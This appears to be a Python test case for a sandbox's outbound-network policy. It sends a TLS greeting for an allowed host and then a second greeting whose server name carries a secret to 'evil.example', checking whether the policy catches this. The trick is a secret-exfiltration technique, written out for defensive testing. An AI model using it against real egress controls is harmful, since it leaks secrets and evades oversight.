# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: after a greeting for the allowed name, a second one names another server, as after a
#   HelloRetryRequest
# proof: word
# needs: resolver
from attack import SECRET, at_allowed, attempt, greeting


def say(out):
    out.send(greeting("api.allowed.example"))
    # Servers pass over these records.
    out.send(b"\x14\3\3\0\1\1")
    out.send(greeting(SECRET + ".evil.example"))


@attempt
def greet():
    return at_allowed(say)
